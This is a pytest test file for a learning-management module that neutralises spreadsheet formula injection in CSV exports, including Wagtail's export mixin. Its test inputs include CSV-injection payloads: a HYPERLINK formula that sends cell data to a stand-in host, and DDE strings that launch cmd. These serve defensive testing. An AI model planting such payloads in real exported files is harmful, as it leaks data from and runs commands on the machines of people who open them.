"""lms.safe_csv: cells a spreadsheet would run as formulas are quoted; the rest is faithful."""

import csv
import datetime
import io
from decimal import Decimal

import pytest

from lms import safe_csv


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "=",
        "-",
        "+44 20 7946 0000",
        "-5 apples",
    ],
)
def test_text_that_a_spreadsheet_would_read_as_a_formula_gets_a_leading_quote(text):
    assert safe_csv.safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["-5", "+1", "-0.25", "+.5", "12", "3.0"])
def test_text_that_is_a_plain_number_stays_as_it_is(text):
    assert safe_csv.safe_cell(text) == text


@pytest.mark.parametrize(
    "value",
    [-5, 1, -12.5, Decimal("-12.50"), 0, True, None, datetime.date(2025, 1, 2)],
)
def test_numbers_dates_and_empty_cells_are_written_as_they_are(value):
    assert safe_csv.safe_cell(value) is value


@pytest.mark.parametrize(
    "text", ["Ada Auditor", "a=b", "Müller-Lüdenscheidt", "'quoted", " =1+1", "", "O'Neil"]
)
def test_ordinary_text_is_unchanged(text):
    assert safe_csv.safe_cell(text) == text


def test_other_objects_are_written_as_their_text_and_neutralised_like_text():
    class Named:
        def __str__(self):
            return "=1+1"

    assert safe_csv.safe_cell(Named()) == "'=1+1"


def test_the_writer_neutralises_every_cell_of_every_row():
    buffer = io.StringIO()
    writer = safe_csv.writer(buffer)

    writer.writerow(["=1+1", -5, "-5", "name"])
    writer.writerows([["@x", Decimal("1.50")]])

    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows == [["'=1+1", "-5", "-5", "name"], ["'@x", "1.50"]]


def test_wagtail_exports_are_guarded_once_the_site_has_started():
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    assert SpreadsheetExportMixin.neutralises_formulas is True
    safe_csv.guard_wagtail_exports()  # idempotent
    assert SpreadsheetExportMixin.write_csv_row.__module__ == "lms.safe_csv"
